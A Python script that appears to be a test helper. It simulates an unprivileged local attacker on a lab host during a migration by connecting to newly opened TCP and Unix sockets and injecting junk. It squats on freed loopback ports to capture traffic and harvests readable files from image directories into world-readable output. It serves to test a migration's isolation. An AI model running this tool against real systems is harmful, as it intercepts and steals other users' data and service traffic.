"""An unprivileged local attacker on a lab host (issue #14), run as `nobody` during a migration:
OUT STOP DIR...

Until the file STOP exists, every few ms it
  (a) connects to every TCP port that starts listening (loopback or not) and to every Unix
      socket that starts listening (by path or abstract name), writes junk into each (the
      "write" variant) and keeps everything it reads;
  (b) binds every TCP port that stops listening, on 127.0.0.1, and keeps what anyone sends it;
  (c) reads every file under each DIR (the hosts' image dirs) it can open.
Then it writes what it captured to OUT.bin and what it tried, and how that went, to OUT.json
(both world-readable), and exits. It never prints the memory marker itself.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time

out, stop, dirs = sys.argv[1], sys.argv[2], sys.argv[3:]
JUNK = b"OVERWRITTEN-BY-NOBODY-" * 2000
lock = threading.Lock()
owners: dict[tuple[str, int], int] = {}
captured = bytearray()
log: dict[str, list] = {
    "tcp_seen": [], "tcp_connected": [], "tcp_refused": [], "tcp_listeners": [], "bound": [],
    "bind_failed": [],
    "unix_seen": [], "unix_connected": [], "unix_refused": [], "files_read": [],
    "files_denied": [], "dirs_denied": [],
}  # fmt: skip


def stopped() -> bool:
    """STOP exists, or its directory is gone (a failed test removed it: end, do not linger)."""
    return os.path.exists(stop) or not os.path.isdir(os.path.dirname(stop))


def keep(data: bytes) -> None:
    with lock:
        captured.extend(data)


def note(key: str, value: object) -> None:
    with lock:
        if value not in log[key]:
            log[key].append(value)


def drain(s: socket.socket) -> None:
    """Write junk, then read everything until the peer closes (or 30 s pass)."""
    s.settimeout(0.5)
    end = time.monotonic() + 30
    try:
        s.sendall(JUNK)
    except OSError:
        pass
    while time.monotonic() < end:
        try:
            data = s.recv(1 << 16)
        except TimeoutError:
            continue
        except OSError:
            break
        if not data:
            break
        keep(data)
    s.close()


def listening_tcp() -> set[tuple[str, int]]:
    """(family:address, port) of every TCP listener; the owner's uid goes to owners."""
    found = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(name).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if parts[3] != "0A":  # LISTEN
                continue
            addr, port = parts[1].split(":")
            family = "6" if name.endswith("6") else "4"
            found.add((family + ":" + addr, int(port, 16)))
            owners[(family + ":" + addr, int(port, 16))] = int(parts[7])
    return found


def listening_unix() -> set[str]:
    found = set()
    try:
        lines = open("/proc/net/unix").read().splitlines()[1:]
    except OSError:
        return found
    for line in lines:
        parts = line.split()
        # Num RefCount Protocol Flags Type St Inode Path; flag 0x10000: listening.
        if len(parts) >= 8 and int(parts[3], 16) & 0x10000:
            found.add(parts[7])
    return found


def connect_tcp(key: tuple[str, int]) -> None:
    family, port = key
    note("tcp_seen", port)
    note("tcp_listeners", [family, port, owners.get(key)])  # which listener (when one surprises)
    host = "::1" if family.startswith("6") else "127.0.0.1"
    try:
        s = socket.create_connection((host, port), timeout=1)
    except OSError as e:
        note("tcp_refused", [port, str(e)])
        return
    note("tcp_connected", port)
    drain(s)


def connect_unix(path: str) -> None:
    """Stream or seqpacket, whichever the socket takes (by path, or an abstract @name)."""
    note("unix_seen", path)
    errors = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        s = socket.socket(socket.AF_UNIX, kind)
        try:
            s.settimeout(1)
            s.connect("\0" + path[1:] if path.startswith("@") else path)
        except OSError as e:
            errors.append(str(e))
            s.close()
            continue
        note("unix_connected", path)
        drain(s)
        return
    note("unix_refused", [path, errors])


def squat(port: int) -> None:
    """Bind a port that was freed; keep what anyone sends there. SO_REUSEADDR, as any attacker
    would: then a connection the old owner closed (TIME_WAIT) does not keep the port from it."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", port))
        s.listen(8)
    except OSError as e:
        note("bind_failed", [port, str(e)])
        return
    note("bound", port)
    s.settimeout(0.5)
    while not stopped():
        try:
            c, _ = s.accept()
        except TimeoutError:
            continue
        threading.Thread(target=drain, args=(c,), daemon=True).start()
    s.close()


def read_files() -> None:
    for top in dirs:
        denied = lambda e: note("dirs_denied", e.filename)  # noqa: E731
        for root, _dirs, files in os.walk(top, onerror=denied):
            for name in files:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as f:
                        keep(f.read())
                    note("files_read", path)
                except OSError:
                    note("files_denied", path)


def main() -> None:
    tcp_before, unix_before = listening_tcp(), listening_unix()
    tried_tcp: set[tuple[str, int]] = set()
    tried_unix: set[str] = set()
    seen: set[tuple[str, int]] = set()
    squatted: set[int] = set()
    iterations = 0
    open(out + ".ready", "w").close()
    deadline = time.monotonic() + 900
    while not stopped() and time.monotonic() < deadline:
        iterations += 1
        tcp = listening_tcp()
        for key in tcp - tcp_before - tried_tcp:
            tried_tcp.add(key)
            seen.add(key)
            threading.Thread(target=connect_tcp, args=(key,), daemon=True).start()
        for key in seen - tcp:  # freed: take its place
            if key[1] not in squatted:
                squatted.add(key[1])
                threading.Thread(target=squat, args=(key[1],), daemon=True).start()
        for path in listening_unix() - unix_before - tried_unix:
            tried_unix.add(path)
            threading.Thread(target=connect_unix, args=(path,), daemon=True).start()
        if iterations % 20 == 0:
            read_files()
        time.sleep(0.005)
    read_files()
    time.sleep(1)  # let open connections hand over what they still read
    with lock:
        data = bytes(captured)
        summary = {**log, "iterations": iterations, "captured_bytes": len(data)}
    old = os.umask(0o022)
    with open(out + ".bin", "wb") as f:
        f.write(data)
    with open(out + ".json.tmp", "w") as f:  # then renamed: OUT.json appears whole
        json.dump(summary, f)
    os.rename(out + ".json.tmp", out + ".json")
    os.umask(old)
    os._exit(0)


main()
